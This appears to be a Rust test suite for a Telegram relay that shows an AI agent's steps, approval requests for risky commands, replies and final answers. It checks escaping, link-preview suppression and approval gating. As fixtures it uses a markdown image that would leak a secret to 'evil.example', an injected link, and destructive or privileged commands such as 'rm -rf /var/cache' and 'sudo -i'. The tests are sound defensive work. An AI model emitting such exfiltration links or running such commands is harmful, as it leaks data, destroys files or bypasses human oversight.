//! Agent tasks started from Telegram, with a hand in place of the worker (events appended and
//! statuses set in the store): the status message shows the recent steps, escaped; an `approval`
//! event brings exactly one approval request (buttons when the owner decides, the admins notified
//! when an admin must); a `reply` event one message; the final answer comes as escaped ordinary
//! text with link previews off.

use domain::{Approval, ApprovalDecision, Id, IdKind, RiskTier, TaskKind, TaskStatus, Timestamp};
use serde_json::json;
use store::approvals::NewApproval;
use store::tasks::StatusChange;
use telegram::notices::agent_notices;
use telegram::outgoing::{Action, Outgoing};
use telegram::render::{MAX_MESSAGE_UTF16, utf16_len};

use crate::support_chat::{button_data, joined, texts};
use crate::support_relay::{RelayFixture, TG, at, only_our_tags, the_edit};

/// A markdown image whose URL would carry a secret out if anything rendered it.
const EVIL_IMAGE: &str = "![x](https://evil.example/?q=secret)";

impl RelayFixture {
    /// Asks the agent `prompt` in chat, delivers the acceptance and lets a worker claim the task.
    async fn ask_and_claim(&self, prompt: &str) -> (Id, i64) {
        let (task_id, update_id) = self.say(prompt).await;
        self.deliver().await;
        self.claim(&task_id).await;
        (task_id, update_id)
    }

    /// What the worker does when an action needs an approval: stores it, moves the task to
    /// WAITING_APPROVAL and appends the `approval` event, in one transaction.
    async fn approval_needed(&self, task_id: &Id, tier: RiskTier, action: &str) -> Id {
        let task = store::tasks::get(&self.db, task_id).await.unwrap().unwrap();
        let now = Timestamp::now();
        let approval = Approval {
            approval_id: Id::generate(IdKind::Approval).unwrap(),
            task_id: task_id.clone(),
            requested_by: task.user_id,
            risk_tier: tier,
            action: action.to_owned(),
            environment: None,
            rationale: "deletes files <for real> & cannot be undone".to_owned(),
            decision: None,
            decided_by: None,
            created_at: now,
            expires_at: Timestamp::from_millis(now.as_millis() + 1_800_000),
        };
        let new = NewApproval {
            approval: approval.clone(),
            grants: json!({}),
            action_hash: "0".repeat(64),
        };
        let mut tx = self.db.begin().await.unwrap();
        store::approvals::insert_many(&mut tx, &[&new])
            .await
            .unwrap();
        store::tasks::set_status(
            &mut tx,
            task_id,
            TaskStatus::WaitingApproval,
            StatusChange::default(),
            None,
        )
        .await
        .unwrap();
        store::task_events::append(
            &mut tx,
            task_id,
            "approval",
            json!({
                "approval_id": approval.approval_id,
                "action": action,
                "risk_tier": tier,
                "environment": null,
                "rationale": approval.rationale,
            }),
        )
        .await
        .unwrap();
        tx.commit().await.unwrap();
        approval.approval_id
    }

    async fn notices(&self) -> Vec<Outgoing> {
        agent_notices(&self.fx.conv, &self.db, Timestamp::now())
            .await
            .unwrap()
    }

    /// The messages the results relay sends for the task, queued.
    async fn result_of(&self, task: &domain::Task) -> Vec<Outgoing> {
        let out = self.fx.conv.result_messages(task).await.unwrap();
        self.queue(&out).await;
        out
    }
}

fn tool_call(step: i64, command: &str, tier: &str, verdict: &str) -> serde_json::Value {
    json!({"step": step, "tool": "shell", "command": command, "risk_tier": tier,
           "verdict": verdict, "rationale": null})
}

fn tool_result(step: i64, exit_code: i64) -> serde_json::Value {
    json!({"step": step, "tool": "shell", "exit_code": exit_code, "denied": false,
           "error": null, "flagged": false, "reasons": []})
}

#[tokio::test]
async fn the_status_message_shows_the_steps_escaped() {
    let f = RelayFixture::with_agent().await;
    let (task_id, update_id) = f.ask_and_claim("why is the disk full?").await;
    let message_id = f.acceptance_message_id(update_id).await;
    f.event(
        &task_id,
        "plan",
        json!({"step": 1, "text": "<b>Checking</b> the\ndisk first."}),
    )
    .await;
    f.event(
        &task_id,
        "tool_call",
        tool_call(1, "df -h | grep '<dev>'", "L0_READONLY", "ALLOW"),
    )
    .await;
    f.output(&task_id, "/dev/sda1 <full> 100%\n").await;
    let t0 = Timestamp::now();
    let (edited, html) = the_edit(&f.edits(t0).await);
    assert_eq!(edited, message_id);
    for needle in [
        task_id.as_str(),
        "RUNNING",
        "Asked: why is the disk full?",
        "💭 &lt;b&gt;Checking&lt;/b&gt; the disk first.",
        "<code>$ df -h | grep '&lt;dev&gt;'</code> · L0_READONLY · allowed",
        "<pre>/dev/sda1 &lt;full&gt; 100%</pre>",
    ] {
        assert!(html.contains(needle), "{needle} missing: {html}");
    }
    assert!(!html.contains("<b>Checking"), "{html}");
    only_our_tags(&html);

    // The command ends, the next starts: its outcome, and only the new command's output.
    f.event(&task_id, "tool_result", tool_result(1, 0)).await;
    f.event(
        &task_id,
        "tool_call",
        tool_call(2, "du -sh /var/*", "L0_READONLY", "ALLOW"),
    )
    .await;
    f.output(&task_id, "12G /var/log\n").await;
    let (_, html) = the_edit(&f.edits(at(t0, 3_000)).await);
    assert!(html.contains("allowed → exit 0"), "{html}");
    assert!(html.contains("<code>$ du -sh /var/*</code>"), "{html}");
    assert!(html.contains("<pre>12G /var/log</pre>"), "{html}");
    assert!(!html.contains("sda1"), "{html}");

    // Plenty of steps and output: within Telegram's limit, newest kept.
    for i in 0..30 {
        f.event(
            &task_id,
            "plan",
            json!({"step": 3 + i, "text": "<&>".repeat(200)}),
        )
        .await;
        f.event(
            &task_id,
            "tool_call",
            tool_call(
                3 + i,
                &format!("echo {i} {}", "\"".repeat(300)),
                "L0_READONLY",
                "ALLOW",
            ),
        )
        .await;
    }
    f.output(&task_id, &"<&>😀\n".repeat(5_000)).await;
    let (_, html) = the_edit(&f.edits(at(t0, 6_000)).await);
    assert!(
        utf16_len(&html) <= MAX_MESSAGE_UTF16,
        "{}",
        utf16_len(&html)
    );
    assert!(
        html.contains("echo 29 "),
        "the newest step is shown: {html}"
    );
    assert!(html.contains(task_id.as_str()));
    only_our_tags(&html);

    // Finished: the last edit says the answer follows; never edited again.
    f.finish(&task_id, TaskStatus::Succeeded, 0, "The logs.")
        .await;
    let (_, html) = the_edit(&f.edits(at(t0, 9_000)).await);
    assert!(html.contains("SUCCEEDED"), "{html}");
    assert!(html.contains("the answer follows"), "{html}");
    assert!(!html.contains("exit code"), "{html}");
    assert!(f.edits(at(t0, 20_000)).await.is_empty());
}

#[tokio::test]
async fn an_approval_event_brings_one_request_with_both_buttons() {
    let f = RelayFixture::with_agent().await;
    let (task_id, _) = f.ask_and_claim("clean up /tmp/build").await;
    f.event(
        &task_id,
        "tool_call",
        tool_call(1, "rm -rf /tmp/build", "L2_DESTRUCTIVE", "REQUIRE_APPROVAL"),
    )
    .await;
    let approval_id = f
        .approval_needed(&task_id, RiskTier::L2Destructive, "rm -rf /tmp/build")
        .await;

    let out = f.notices().await;
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(out[0].chat_id, TG);
    assert_eq!(out[0].dedupe_key, format!("apr:{approval_id}"));
    let html = joined(&out);
    for needle in [
        approval_id.as_str(),
        task_id.as_str(),
        "Approval needed",
        "<pre>rm -rf /tmp/build</pre>",
        "L2_DESTRUCTIVE",
        "Environment: none",
        "deletes files &lt;for real&gt; &amp; cannot be undone",
    ] {
        assert!(html.contains(needle), "{needle} missing: {html}");
    }
    assert_eq!(
        button_data(&out),
        vec![format!("ap:{approval_id}"), format!("dn:{approval_id}")]
    );

    // A second scan (or a second process) sends nothing more.
    assert!(f.notices().await.is_empty());
    f.queue(&out).await;
    f.queue(&out).await;
    f.deliver().await;
    let requests: Vec<String> = f
        .fake
        .sent_texts()
        .into_iter()
        .filter(|t| t.contains(approval_id.as_str()))
        .collect();
    assert_eq!(requests.len(), 1, "{requests:#?}");

    // The status message says it waits; the button acts like /approve.
    let (_, status) = the_edit(&f.edits(Timestamp::now()).await);
    assert!(status.contains("WAITING_APPROVAL"), "{status}");
    assert!(status.contains("needs approval"), "{status}");
    let pressed = f.fx.press(TG, &format!("ap:{approval_id}")).await;
    assert!(joined(&pressed).contains("Approved"), "{pressed:?}");
    let user = f.fx.coord.user_by_telegram(TG).await.unwrap().unwrap();
    let task = f.fx.coord.get_task(&user, &task_id).await.unwrap();
    assert_eq!(task.status, TaskStatus::Queued);
    assert!(
        f.notices().await.is_empty(),
        "a decided approval is not asked again"
    );
}

#[tokio::test]
async fn an_approval_only_an_admin_may_decide_reaches_the_admins() {
    let f = RelayFixture::with_agent().await;
    f.fx.link_admin(70).await;
    let (task_id, _) = f.ask_and_claim("give me a root shell").await;
    let approval_id = f
        .approval_needed(&task_id, RiskTier::L3Privileged, "sudo -i")
        .await;

    let (to_owner, to_admin): (Vec<Outgoing>, Vec<Outgoing>) =
        f.notices().await.into_iter().partition(|o| o.chat_id == TG);
    assert_eq!(to_owner.len(), 2, "the request and the note: {to_owner:?}");
    let owner = joined(&to_owner);
    assert!(owner.contains("Waiting for another admin"), "{owner}");
    assert!(owner.contains(approval_id.as_str()), "{owner}");
    assert!(owner.contains("the admins have been notified"), "{owner}");
    assert!(button_data(&to_owner).is_empty());
    assert_eq!(to_admin.len(), 1, "{to_admin:?}");
    assert_eq!(to_admin[0].chat_id, 70);
    assert!(joined(&to_admin).contains(approval_id.as_str()));
    assert_eq!(button_data(&to_admin).len(), 2);

    // The periodic admin relay finds this approval too, with the same key (no second copy).
    let relayed = f.fx.conv.pending_admin_notifications().await.unwrap();
    assert_eq!(relayed.len(), 1, "{relayed:?}");
    assert_eq!(relayed[0].dedupe_key, to_admin[0].dedupe_key);
    assert_eq!(relayed[0].chat_id, 70);

    // The owner's buttons are not there, and pressing one anyway changes nothing.
    let pressed = f.fx.press(TG, &format!("ap:{approval_id}")).await;
    assert!(!joined(&pressed).contains("Approved"), "{pressed:?}");
    let decided =
        f.fx.coord
            .decide_approval(&f.fx.admin, &approval_id, ApprovalDecision::Approve)
            .await
            .unwrap();
    assert_eq!(decided.decision, Some(ApprovalDecision::Approve));
}

#[tokio::test]
async fn a_reply_event_is_one_escaped_message() {
    let f = RelayFixture::with_agent().await;
    let (task_id, _) = f.ask_and_claim("deploy when ready").await;
    f.event(&task_id, "plan", json!({"step": 1, "text": "asking first"}))
        .await;
    f.event(
        &task_id,
        "reply",
        json!({"text": "Which <i>branch</i>? <a href=\"https://evil.example\">main</a>"}),
    )
    .await;
    let out = f.notices().await;
    assert_eq!(out.len(), 1, "{out:?}");
    let events = store::task_events::list_after(&f.db, &task_id, 0, 100)
        .await
        .unwrap();
    let reply = events.iter().find(|e| e.kind == "reply").unwrap();
    assert_eq!(out[0].dedupe_key, format!("rep:{task_id}:{}", reply.seq));
    assert_eq!(out[0].chat_id, TG);
    let html = joined(&out);
    assert!(
        html.starts_with("agent: Which &lt;i&gt;branch&lt;/i&gt;? &lt;a href="),
        "{html}"
    );
    assert!(html.contains(task_id.as_str()), "{html}");
    only_our_tags(&html);
    assert!(f.notices().await.is_empty());

    // A second reply later: one more message; events of other kinds: none.
    f.output(&task_id, "building\n").await;
    f.event(&task_id, "reply", json!({"text": "Deploying main."}))
        .await;
    let out = f.notices().await;
    assert_eq!(texts(&out).len(), 1, "{out:?}");
    assert!(joined(&out).contains("agent: Deploying main."));

    // Command tasks are not looked at.
    let (command_task, _) = f.run("echo hi").await;
    f.event(&command_task, "reply", json!({"text": "not from an agent"}))
        .await;
    assert!(f.notices().await.is_empty());
}

#[tokio::test]
async fn the_final_answer_is_inert_escaped_text_without_link_previews() {
    let f = RelayFixture::with_agent().await;
    let (task_id, _) = f.ask_and_claim("summarise the logs").await;
    let answer = format!(
        "Done. <b>All good</b> & \"quiet\".\n{EVIL_IMAGE}\n<a href=\"https://evil.example\">more</a>"
    );
    let task = f.finish(&task_id, TaskStatus::Succeeded, 0, &answer).await;
    assert_eq!(task.kind, TaskKind::Agent);
    let out = f.result_of(&task).await;
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(out[0].dedupe_key, format!("res:{task_id}"));
    let html = joined(&out);
    assert!(
        html.starts_with(
            "Done. &lt;b&gt;All good&lt;/b&gt; &amp; &quot;quiet&quot;.\n\
             ![x](https://evil.example/?q=secret)\n&lt;a href=&quot;https://evil.example&quot;&gt;"
        ),
        "{html}"
    );
    assert!(
        html.contains(task_id.as_str()) && html.contains("SUCCEEDED"),
        "{html}"
    );
    assert!(
        !html.contains("<pre>") && !html.contains("exit code"),
        "{html}"
    );
    only_our_tags(&html);

    f.deliver().await;
    let sent = f.fake.calls_to("sendMessage");
    let call = sent
        .iter()
        .find(|c| c["text"].as_str().is_some_and(|t| t.contains(EVIL_IMAGE)))
        .expect("the answer was sent");
    assert_eq!(call["parse_mode"], "HTML");
    assert_eq!(call["link_preview_options"]["is_disabled"], true);
    assert_eq!(call["text"], html.as_str());
}

#[tokio::test]
async fn a_long_answer_is_cut_and_attached_and_a_failure_says_why() {
    let f = RelayFixture::with_agent().await;
    let (long_task, _) = f.ask_and_claim("write a lot").await;
    let answer = "<p>&amp;</p>😀\n".repeat(2_000);
    let task = f
        .finish(&long_task, TaskStatus::Succeeded, 0, &answer)
        .await;
    let out = f.result_of(&task).await;
    assert_eq!(out.len(), 2, "{out:?}");
    let Action::SendMessage { html, .. } = &out[0].action else {
        panic!("{out:?}");
    };
    assert!(utf16_len(html) <= MAX_MESSAGE_UTF16, "{}", utf16_len(html));
    assert!(html.contains(long_task.as_str()), "{html}");
    assert!(html.contains("the attached file has all of it"), "{html}");
    only_our_tags(html);
    let Action::SendDocument {
        contents,
        caption_html,
        ..
    } = &out[1].action
    else {
        panic!("{out:?}");
    };
    assert_eq!(contents, &answer);
    assert!(caption_html.contains(long_task.as_str()));
    assert_eq!(out[1].dedupe_key, format!("res:{long_task}:doc"));

    let (failed_task, _) = f.ask_and_claim("do the impossible").await;
    let task = f
        .fail(
            &failed_task,
            "llm_unavailable",
            "the model <server> did not answer",
        )
        .await;
    let html = joined(&f.result_of(&task).await);
    assert!(
        html.contains(failed_task.as_str()) && html.contains("FAILED"),
        "{html}"
    );
    assert!(
        html.contains("<code>llm_unavailable</code>: the model &lt;server&gt; did not answer"),
        "{html}"
    );
    f.deliver().await;
}

#[tokio::test]
async fn denying_an_agent_approval_lets_the_agent_go_on_without_it() {
    let f = RelayFixture::with_agent().await;
    let (task_id, _) = f.ask_and_claim("free some space").await;
    let approval_id = f
        .approval_needed(&task_id, RiskTier::L2Destructive, "rm -rf /var/cache")
        .await;
    let pressed = f.fx.press(TG, &format!("dn:{approval_id}")).await;
    assert!(
        joined(&pressed).contains("Denied: the agent goes on without that action."),
        "{pressed:?}"
    );
    let user = f.fx.coord.user_by_telegram(TG).await.unwrap().unwrap();
    let task = f.fx.coord.get_task(&user, &task_id).await.unwrap();
    assert_eq!(
        task.status,
        TaskStatus::Queued,
        "the agent hears the refusal"
    );
    let again = joined(&f.fx.send(TG, &format!("/deny {approval_id}")).await);
    assert!(again.contains("is told and goes on"), "{again}");
}
